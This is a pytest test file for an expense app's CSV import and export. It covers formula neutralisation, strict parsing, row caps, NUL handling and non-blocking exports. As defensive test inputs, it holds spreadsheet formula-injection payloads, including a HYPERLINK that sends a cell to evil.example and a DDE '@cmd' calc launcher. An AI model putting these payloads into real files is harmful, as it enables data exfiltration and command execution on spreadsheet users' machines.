"""CSV export and import: formula neutralisation of every text cell, strict parsing, the row
cap, and exports and imports that neither hold database connections nor block the event loop."""

from __future__ import annotations

import asyncio
import csv
import io
import socket
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from expense_wise.db.migrate import upgrade
from tests.conftest import (
    create_database,
    database_url,
    drop_database,
    register,
    run_sql,
    served_app,
)
from tests.expenses.test_routes import create

HEADER = "date,amount,currency,merchant,category,tags,note,payment_method,id"
TEXT_COLUMNS = ("merchant", "category", "tags", "note", "payment_method")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def import_file(client: Any, account: Any, content: str | bytes) -> Any:
    data = content.encode() if isinstance(content, str) else content
    return await client.post(
        "/api/v1/expenses/import",
        files={"file": ("expenses.csv", data, "text/csv")},
        headers=account.headers,
    )


async def export(client: Any, account: Any, query: str = "") -> str:
    response = await client.get(f"/api/v1/expenses/export?{query}", headers=account.headers)
    assert response.status_code == 200, response.text
    return str(response.text)


async def category_named(client: Any, account: Any, name: str) -> str:
    response = await client.post("/api/v1/categories", json={"name": name}, headers=account.headers)
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


# --- Formula neutralisation ------------------------------------------------------------------

# What a spreadsheet would run, at the start of each text column, and the same behind a
# separator of the tags cell.
HOSTILE = {
    "merchant": '=HYPERLINK("http://evil.example/?"&A1)',
    "category": "+SUM(1,2)",
    "note": "@cmd|' /C calc'!A0",
    "payment_method": "-2+3",
}


async def test_every_text_cell_of_a_created_expense_is_neutralised(client, alice):
    category = await category_named(client, alice, HOSTILE["category"])
    await create(
        client,
        alice,
        merchant=HOSTILE["merchant"],
        category_id=category,
        tags=["=1+1", "plain", "@x", "-y", "+z", "'=quoted"],
        note=HOSTILE["note"],
        payment_method=HOSTILE["payment_method"],
    )
    await create(client, alice, merchant="Safe", note="\t=tab first", occurred_on="2024-05-02")
    text = await export(client, alice)
    first, second = rows_of(text)
    for column, value in HOSTILE.items():
        assert first[column] == "'" + value, column
    assert first["tags"].split(";") == ["'=1+1", "plain", "'@x", "'-y", "'+z", "''=quoted"]
    assert second["note"] == "'\t=tab first"
    # Every text cell is quoted, so no separator inside one can start a new cell.
    body = text.splitlines()[1]
    assert body.count('"') >= 2 * len(TEXT_COLUMNS)
    assert ',"\'=HYPERLINK(""http://evil.example/?""&A1)",' in body


async def test_imported_formulas_are_neutralised_and_exports_round_trip(client, alice):
    content = (
        HEADER + "\n"
        '2024-03-01,1.50,EUR,=1+1,@Hobby,"=a;b;-c",+note,-card,\n'
        "2024-03-02,2.00,EUR,'=already quoted,,'@tag,'+note,,\n"
    )
    response = await import_file(client, alice, content)
    assert response.json() == {"imported": 2, "skipped_duplicates": 0}
    exported = await export(client, alice)
    first, second = rows_of(exported)
    assert [first[c] for c in TEXT_COLUMNS] == ["'=1+1", "'@Hobby", "'=a;b;'-c", "'+note", "'-card"]
    # Import took one apostrophe away; export puts it back.
    assert [second[c] for c in TEXT_COLUMNS] == ["'=already quoted", "", "'@tag", "'+note", ""]
    stored = (await client.get("/api/v1/expenses", headers=alice.headers)).json()["items"]
    assert {item["merchant"] for item in stored} == {"=1+1", "=already quoted"}
    assert [item["tags"] for item in stored] == [["@tag"], ["=a", "b", "-c"]]

    fresh = await register(client)
    assert (await import_file(client, fresh, exported)).json()["imported"] == 2
    again = await export(client, fresh)
    assert [line.rsplit(",", 1)[0] for line in again.splitlines()] == [
        line.rsplit(",", 1)[0] for line in exported.splitlines()
    ]


# --- The same CSV from both databases ---------------------------------------------------------


async def _tricky_history(client: Any, account: Any) -> None:
    dining = await category_named(client, account, 'Dining "out", late')
    await create(
        client,
        account,
        amount="3.20",
        merchant='Café, "Zur Post"',
        category_id=dining,
        note="line1\nline2; =not a formula",
        tags=["é", "b c", "=x"],
        payment_method="cash",
    )
    await create(
        client, account, amount="1200", currency="JPY", merchant="Sushi", occurred_on="2024-05-02"
    )
    await create(
        client,
        account,
        amount="1.234",
        currency="KWD",
        merchant="Souk",
        tags=["a"],
        occurred_on="2024-05-03",
    )
    await create(client, account, amount="999999999.99", merchant="Big", occurred_on="2023-01-01")
    await create(client, account, amount="0.1", merchant="Small", occurred_on="2023-01-02")


async def test_export_is_the_same_csv_on_postgresql_and_sqlite(client, sqlite_client):
    texts = []
    for test_client in (client, sqlite_client):
        account = await register(test_client)
        await _tricky_history(test_client, account)
        full = await export(test_client, account)
        filtered = await export(test_client, account, "tag=a&q=sou")
        # Ids differ between the two accounts; everything before them must not.
        texts.append([[line.rsplit(",", 1)[0] for line in t.split("\n")] for t in (full, filtered)])
    assert texts[0] == texts[1]
    full_lines, filtered_lines = texts[0]
    assert full_lines[0] == HEADER.rsplit(",", 1)[0]
    assert full_lines[1:3] == [
        '2023-01-01,999999999.99,EUR,"Big","","","",""',
        '2023-01-02,0.10,EUR,"Small","","","",""',
    ]
    assert '1200,JPY,"Sushi"' in "\n".join(full_lines)
    assert '1.234,KWD,"Souk","","a","",""' in "\n".join(full_lines)
    assert filtered_lines[1:] == ['2024-05-03,1.234,KWD,"Souk","","a","",""', ""]


async def test_export_crosses_chunk_boundaries_in_order(client, alice, base_env, monkeypatch):
    from expense_wise.domain.expenses import csv_export

    monkeypatch.setattr(csv_export, "EXPORT_CHUNK_ROWS", 7)
    run_sql(
        base_env,
        "INSERT INTO expenses (id, user_id, amount, currency, occurred_on, merchant,"
        " merchant_key, tags, created_at, updated_at)"
        " SELECT gen_random_uuid(), %s, g * 10000, 'EUR', date '2024-01-01' + g %% 5,"
        " 'Shop ' || g, 'shop ' || g, '[]', now(), now() FROM generate_series(1, 50) AS g",
        alice.id,
    )
    rows = rows_of(await export(client, alice))
    assert len(rows) == 50 and len({row["id"] for row in rows}) == 50
    keys = [(row["date"], row["id"]) for row in rows]
    assert keys == sorted(keys)


# --- Strict parsing --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "row", "field", "message"),
    [
        (
            "date,amount,merchant,amount\n2024-01-01,1,A,2\n",
            1,
            "header",
            "duplicate columns: amount",
        ),
        ('date,amount,merchant\n2024-01-01,1,A\n2024-01-02,2,"B\n', 3, "file", "unexpected end"),
        ('date,amount,merchant\n2024-01-01,1,"A"x\n', 2, "file", "malformed CSV"),
        ("date,amount,merchant,tags\n2024-01-01,1,A,a\x00b\n", 2, "tags", "NUL"),
    ],
)
async def test_malformed_files_are_refused_whole(client, alice, content, row, field, message):
    response = await import_file(client, alice, content)
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert (error["row"], error["field"]) == (row, field)
    assert message in error["message"]
    assert (await client.get("/api/v1/expenses", headers=alice.headers)).json()["items"] == []


@pytest.fixture
def capped_env(base_env: dict[str, str]) -> dict[str, str]:
    base_env["IMPORT_MAX_ROWS"] = "3"
    return base_env


async def test_rows_per_import_are_capped_by_a_setting(capped_env):
    async with served_app(capped_env) as base, httpx.AsyncClient(base_url=base) as http:
        account = await register(http)  # type: ignore[arg-type]
        rows = [f"2024-01-0{day},1.00,Shop {day}" for day in range(1, 5)]
        too_many = await import_file(http, account, "date,amount,merchant\n" + "\n".join(rows))
        assert too_many.status_code == 422
        assert too_many.json()["errors"] == [
            {"row": 5, "field": "file", "message": "more than 3 rows; split the file"}
        ]
        enough = await import_file(http, account, "date,amount,merchant\n" + "\n".join(rows[:3]))
        assert enough.json() == {"imported": 3, "skipped_duplicates": 0}


# --- NUL characters in tags --------------------------------------------------------------------


async def test_a_nul_in_a_tag_is_refused_everywhere(client, alice):
    body = {"amount": "1", "occurred_on": "2024-01-01", "merchant": "A", "tags": ["a\x00b"]}
    assert (
        await client.post("/api/v1/expenses", json=body, headers=alice.headers)
    ).status_code == 422
    expense = await create(client, alice)
    patched = await client.patch(
        f"/api/v1/expenses/{expense['id']}", json={"tags": ["x\x00"]}, headers=alice.headers
    )
    assert patched.status_code == 422
    template = {**body, "frequency": "monthly", "starts_on": "2024-01-01"}
    assert (
        await client.post("/api/v1/recurring-expenses", json=template, headers=alice.headers)
    ).status_code == 422
    listed = await client.get("/api/v1/expenses?tag=a%00b", headers=alice.headers)
    assert listed.status_code == 422


@pytest.fixture
def scratch_database() -> Iterator[str]:
    name = create_database("ew_tags")
    yield database_url(name)
    drop_database(name)


async def test_nul_characters_stored_earlier_are_removed_by_the_migration(
    scratch_database, base_env
):
    upgrade(scratch_database, "0004")
    env = {**base_env, "DATABASE_URL": scratch_database}
    user_id = run_sql(
        env,
        "INSERT INTO users (id, email, password_hash, default_currency, monthly_summary,"
        " created_at, updated_at) VALUES (gen_random_uuid(), 'n@example.com', '!', 'EUR',"
        " true, now(), now()) RETURNING id",
    )[0][0]
    for tags in ('["a\\u0000b", "ab", "\\u0000"]', '["keep \\\\u0000 literal"]'):
        run_sql(
            env,
            "INSERT INTO expenses (id, user_id, amount, currency, occurred_on, merchant,"
            " merchant_key, tags, created_at, updated_at) VALUES (gen_random_uuid(), %s, 10000,"
            " 'EUR', '2024-01-01', 'A', 'a', %s::json, now(), now())",
            user_id,
            tags,
        )
    upgrade(scratch_database)
    stored = run_sql(env, "SELECT tags::jsonb FROM expenses ORDER BY tags::text")
    assert stored == [(["ab"],), (["keep \\u0000 literal"],)]


# --- Slow clients and large files ---------------------------------------------------------------

LONG_NOTES = """
INSERT INTO expenses (id, user_id, amount, currency, occurred_on, merchant, merchant_key, note,
                      tags, created_at, updated_at)
SELECT gen_random_uuid(), %s, 10000, 'EUR', date '2020-01-01' + g %% 1500, 'Shop', 'shop',
       repeat('long note ', 100), '["t"]', now(), now()
FROM generate_series(1, %s) AS g
"""


@pytest.fixture
def small_pool_env(base_env: dict[str, str]) -> dict[str, str]:
    base_env.update({"DATABASE_POOL_SIZE": "3", "DATABASE_POOL_TIMEOUT": "2"})
    return base_env


def _stalled_reader(base: str, token: str) -> socket.socket:
    """A client that asks for the export with a tiny receive buffer and then never reads."""
    host, port = base.removeprefix("http://").split(":")
    reader = socket.socket()
    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    reader.connect((host, int(port)))
    reader.sendall(
        f"GET /api/v1/expenses/export HTTP/1.1\r\nHost: {host}\r\n"
        f"Authorization: Bearer {token}\r\n\r\n".encode()
    )
    return reader


async def test_stalled_export_readers_hold_no_database_connection(small_pool_env):
    env = small_pool_env
    async with served_app(env) as base, httpx.AsyncClient(base_url=base, timeout=30) as http:
        heavy = await register(http)  # type: ignore[arg-type]
        other = await register(http)  # type: ignore[arg-type]
        run_sql(env, LONG_NOTES, heavy.id, 20_000)  # about 22 MB of CSV
        readers = [_stalled_reader(base, heavy.access_token) for _ in range(8)]
        try:
            await asyncio.sleep(3)  # every export has filled its socket and is waiting
            database = env["DATABASE_URL"].rsplit("/", 1)[1]
            sessions = run_sql(
                env,
                "SELECT state, count(*) FROM pg_stat_activity WHERE datname = %s"
                " AND pid <> pg_backend_pid() GROUP BY state",
                database,
            )
            assert "idle in transaction" not in dict(sessions), sessions
            # With the 3 connections pinned, both would wait out the 2 s pool timeout and
            # answer 503; a wall-clock bound would only measure the machine's load.
            listed = await http.get("/api/v1/expenses", headers=other.headers)
            ready = await http.get("/ready")
            assert listed.status_code == 200, listed.text
            assert ready.status_code == 200, ready.text
        finally:
            for reader in readers:
                reader.close()


def _large_import(rows: int) -> bytes:
    lines = [HEADER]
    lines.extend(
        f"2024-{1 + n % 12:02d}-{1 + n % 28:02d},{1 + n % 500}.25,EUR,Shop {n % 97},"
        f"Category {n % 7},a;b,note {n},card,"
        for n in range(rows)
    )
    return ("\n".join(lines) + "\n").encode()


async def _poll_health(http: httpx.AsyncClient, done: asyncio.Event) -> list[float]:
    latencies = []
    while not done.is_set():
        started = time.monotonic()
        response = await http.get("/health")
        latencies.append(time.monotonic() - started)
        assert response.status_code == 200
        await asyncio.sleep(0.02)
    return latencies


async def test_a_50k_row_import_leaves_the_event_loop_free(base_env):
    content = _large_import(50_000)
    async with served_app(base_env) as base, httpx.AsyncClient(base_url=base, timeout=120) as http:
        account = await register(http)  # type: ignore[arg-type]
        done = asyncio.Event()
        poller = asyncio.create_task(_poll_health(http, done))

        async def run_import() -> httpx.Response:
            try:
                return await import_file(http, account, content)  # type: ignore[no-any-return]
            finally:
                done.set()

        started = time.monotonic()
        response = await run_import()
        took = time.monotonic() - started
        latencies = await poller
    assert response.status_code == 200, response.text
    assert response.json() == {"imported": 50_000, "skipped_duplicates": 0}
    # /health answered all along, each time in well under the import's duration.
    assert len(latencies) > 10
    assert max(latencies) < 0.5, (max(latencies), took)
